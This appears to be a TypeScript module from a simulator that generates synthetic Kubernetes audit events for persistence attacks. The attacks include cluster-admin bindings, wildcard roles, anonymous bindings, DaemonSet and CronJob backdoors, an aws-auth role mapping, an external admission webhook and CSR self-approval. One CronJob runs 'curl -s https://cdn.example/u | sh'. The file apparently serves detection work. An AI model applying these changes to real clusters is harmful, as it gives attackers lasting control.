import type { Caller } from '../audit.ts';
import { drawPod } from '../layout.ts';
import * as names from '../names.ts';
import { startPod, workloadBody } from '../workloads.ts';
import { goals } from './goals.ts';
import type { Attack, Stage } from './stage.ts';

const rbac = 'rbac.authorization.k8s.io';

/** Who may change the cluster: an admin, or a pipeline with too many rights. */
function powerful(stage: Stage): Caller {
  return stage.random.chance(0.75) ? stage.as(stage.person('admin')) : stage.random.pick(stage.setting.pipelines).caller();
}

/** Ways to stay. */
export const persistenceAttacks: Readonly<Record<string, Attack>> = {
  'cluster-admin-binding': (stage) => {
    const caller = powerful(stage);
    const namespace = stage.random.pick(['kube-system', 'default']);
    const name = stage.random.pick(['metrics-sync', 'node-helper', 'kube-agent']);
    stage.do(caller, { verb: 'create', resource: 'serviceaccounts', namespace, name, body: { kind: 'ServiceAccount', metadata: { name } } });
    stage.do(caller, { verb: 'create', resource: `${rbac}/clusterrolebindings`, name, body: { kind: 'ClusterRoleBinding', metadata: { name }, roleRef: { kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'ServiceAccount', name, namespace }] } });
    if (stage.random.chance(0.5)) stage.do(caller, { verb: 'create', resource: 'secrets', namespace, name: `${name}-token` });
  },
  'wildcard-role': (stage) => {
    const name = stage.random.pick(['helper', 'observer-ext', 'sync']);
    const rules = [{ apiGroups: ['*'], resources: ['*'], verbs: stage.random.pick([['*'], ['*'], ['escalate', 'bind', 'get']]) }];
    stage.do(powerful(stage), { verb: stage.random.pick(['create', 'patch']), resource: `${rbac}/clusterroles`, name, body: { kind: 'ClusterRole', metadata: { name }, rules } });
  },
  'anonymous-binding': (stage) => {
    const body = { kind: 'ClusterRoleBinding', metadata: { name: 'open' }, roleRef: { kind: 'ClusterRole', name: stage.random.pick(['view', 'edit', 'cluster-admin']) }, subjects: [{ kind: 'Group', name: stage.random.pick(['system:unauthenticated', 'system:authenticated']) }] };
    stage.do(powerful(stage), { verb: 'create', resource: `${rbac}/clusterrolebindings`, name: 'open', body });
  },
  'daemonset-backdoor': (stage) => {
    const { random, setting } = stage;
    const name = random.pick(['node-tuner', 'log-agent', 'cni-helper']);
    const app = { ...stage.app(), name, namespace: random.pick(['kube-system', 'default']), kind: 'daemonsets' as const, image: random.pick(names.foreignImages), secrets: [] };
    stage.do(powerful(stage), { verb: 'create', resource: 'apps/daemonsets', namespace: app.namespace, name, body: workloadBody(app, random.chance(0.5) ? { hostPID: true } : {}) });
    for (const node of setting.layout.nodes) startPod(setting, drawPod(random, app, node, 0), { app, time: stage.time, random, mark: stage.mark });
  },
  'cronjob-backdoor': (stage) => {
    const { random } = stage;
    const app = stage.app();
    const name = random.pick(['cleanup', 'rotate', 'sync-cache']);
    const spec = { containers: [{ name, image: random.pick(['curlimages/curl:8', 'alpine', ...names.foreignImages]), command: ['sh', '-c', 'curl -s https://cdn.example/u | sh'] }] };
    stage.do(powerful(stage), { verb: 'create', resource: 'batch/cronjobs', namespace: app.namespace, name, body: { kind: 'CronJob', metadata: { name }, spec: { schedule: '*/10 * * * *', jobTemplate: { spec: { template: { spec } } } } } });
  },
  'aws-auth-change': (stage) => {
    const caller = stage.as(stage.person('admin'));
    const aim = { resource: 'configmaps', namespace: 'kube-system', name: 'aws-auth' } as const;
    stage.do(caller, { verb: 'get', ...aim });
    stage.do(caller, { verb: stage.random.pick(['patch', 'update']), ...aim, body: { data: { mapRoles: '- rolearn: arn:aws:iam::999999999999:role/x\n  groups: [system:masters]' } } });
  },
  'webhook-backdoor': (stage) => {
    const kind = stage.random.pick(['mutatingwebhookconfigurations', 'validatingwebhookconfigurations']);
    const body = { webhooks: [{ name: 'inject.example', clientConfig: { url: 'https://203.0.113.9/inject' } }] };
    stage.do(powerful(stage), { verb: 'create', resource: `admissionregistration.k8s.io/${kind}`, name: 'pod-policy', body });
  },
  'account-of-ones-own': (stage) => { goals.account(stage, powerful(stage)); },
  'csr-approval': (stage) => {
    const caller = stage.as(stage.person('admin'));
    const resource = 'certificates.k8s.io/certificatesigningrequests';
    const name = `csr-${stage.random.suffix()}`;
    stage.do(caller, { verb: 'create', resource, name, body: { kind: 'CertificateSigningRequest', spec: { signerName: 'kubernetes.io/kube-apiserver-client', usages: ['client auth'] } } });
    stage.do(caller, { verb: 'update', resource: `${resource}/approval`, name, body: { kind: 'CertificateSigningRequest' } });
  },
};
